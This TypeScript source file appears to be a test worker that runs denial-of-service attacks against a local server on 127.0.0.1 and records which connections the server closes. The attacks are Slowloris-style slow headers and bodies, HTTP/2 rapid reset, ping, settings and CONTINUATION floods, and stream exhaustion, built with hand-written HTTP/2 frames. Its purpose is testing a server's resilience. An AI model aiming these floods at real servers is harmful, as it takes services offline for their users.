// The process of an attack: told its plan by a message, answers with the result, ends. HTTP/2 is written frame by frame, for
// no library sends what is sent here.
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { AttackName, AttackPlan, AttackResult } from './attack.ts';

const frameType = { headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const;
const endStream = 1;
const endHeaders = 4;
const cancel = Buffer.from([0, 0, 0, 8]);
const eightBytes = Buffer.alloc(8);

function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** GET http://localhost/ in HPACK: three entries of the static table, and the authority as it is. */
const getPage = Buffer.concat([Buffer.from([0x82, 0x86, 0x84, 0x41, 9]), Buffer.from('localhost')]);
/** A header of 60 bytes, not indexed. */
const padding = Buffer.concat([Buffer.from([0x00, 4]), Buffer.from('name'), Buffer.from([54]), Buffer.alloc(54, 'x')]);
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(frameType.settings, 0, 0)]);
const ask = (stream: number): Buffer => frame(frameType.headers, endStream + endHeaders, stream, getPage);

const repeated = (count: number, make: (index: number) => Buffer): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, index) => make(index)));

interface Behaviour {
  readonly first: Buffer | string;
  /** Sent again and again; round grows. */
  readonly again?: (round: number) => Buffer | string;
  readonly everyMs?: number;
  readonly http2?: boolean;
}

const behaviours: Readonly<Record<AttackName, Behaviour>> = {
  idle: { first: '' },
  'slow-headers': {
    first: 'GET / HTTP/1.1\r\nhost: localhost\r\n',
    again: (round) => `x-a${round}: b\r\n`,
    everyMs: 1_000,
  },
  'slow-body': {
    first:
      'POST /api/auth/login HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{',
    again: () => ' ',
    everyMs: 1_000,
  },
  // A hundred answers, and a window that is never opened further.
  'unread-answers': {
    first: Buffer.concat([preface, repeated(100, (index) => ask(2 * index + 1))]),
    http2: true,
  },
  'rapid-reset': {
    first: preface,
    again: (round) =>
      repeated(20, (index) => {
        const stream = 2 * (round * 20 + index) + 1;
        return Buffer.concat([ask(stream), frame(frameType.reset, 0, stream, cancel)]);
      }),
    everyMs: 10,
    http2: true,
  },
  'ping-flood': {
    first: preface,
    again: () => repeated(25, () => frame(frameType.ping, 0, 0, eightBytes)),
    everyMs: 10,
  },
  'settings-flood': { first: preface, again: () => repeated(25, () => frame(frameType.settings, 0, 0)), everyMs: 10 },
  'continuation-flood': {
    first: Buffer.concat([preface, frame(frameType.headers, endStream, 1, getPage)]),
    again: () => repeated(20, () => frame(frameType.continuation, 0, 1, padding)),
    everyMs: 10,
  },
  'too-many-streams': {
    first: preface,
    again: (round) => repeated(200, (index) => ask(2 * (round * 200 + index) + 1)),
    everyMs: 100,
  },
};

/** Answers what asks whether the other side is alive, so that only a time limit ends the connection. */
function answerPings(socket: Socket): void {
  let rest = Buffer.alloc(0);
  socket.on('data', (chunk: Buffer) => {
    rest = Buffer.concat([rest, chunk]);
    while (rest.length >= 9 && rest.length >= 9 + rest.readUIntBE(0, 3)) {
      const length = rest.readUIntBE(0, 3);
      const isRequest = (rest[4] as number) % 2 === 0;
      if (rest[3] === frameType.ping && isRequest) socket.write(frame(frameType.ping, 1, 0, rest.subarray(9, 17)));
      if (rest[3] === frameType.settings && isRequest) socket.write(frame(frameType.settings, 1, 0));
      rest = rest.subarray(9 + length);
    }
  });
}

/** Opens the connections of an attack, and counts those that were opened and those that the other side closed. */
function opener({ name, port }: AttackPlan) {
  const { first, http2 = false } = behaviours[name];
  /** Connected ones. */
  const sockets = new Set<Socket>();
  const lived: number[] = [];
  let over = false;
  let opened = 0;
  return {
    sockets,
    open(): void {
      const since = performance.now();
      const socket = connect({ port, host: '127.0.0.1', noDelay: true }, () => {
        opened++;
        sockets.add(socket);
        socket.write(first);
      });
      if (http2) answerPings(socket);
      else socket.resume();
      socket.on('error', () => {});
      socket.on('close', () => {
        sockets.delete(socket);
        if (!over) lived.push(performance.now() - since);
      });
    },
    close(): AttackResult {
      over = true;
      for (const socket of sockets) socket.destroy();
      return { opened, closed: lived.length, longestMs: lived.reduce((one, other) => Math.max(one, other), 0) };
    },
  };
}

async function run(plan: AttackPlan): Promise<AttackResult> {
  const { name, connections, durationMs, openingMs } = plan;
  const { again, everyMs = 1_000 } = behaviours[name];
  const { sockets, open, close } = opener(plan);
  const begun = performance.now();
  const until = begun + durationMs;
  const perMs = openingMs === undefined ? 5 : connections / openingMs;
  for (let index = 0; index < connections; index++) {
    if (index / perMs > performance.now() - begun) await sleep(index / perMs - (performance.now() - begun));
    open();
  }
  for (let round = 0; performance.now() < until; round++) {
    // Made once for all: what an attack costs here is not what it costs there.
    const more = again?.(round);
    if (more) for (const socket of sockets) if (socket.writableLength < 1_048_576) socket.write(more);
    await sleep(everyMs);
  }
  return close();
}

process.once('message', (plan) => {
  void run(plan as AttackPlan).then((result) => process.send?.(result, () => process.exit(0)));
});
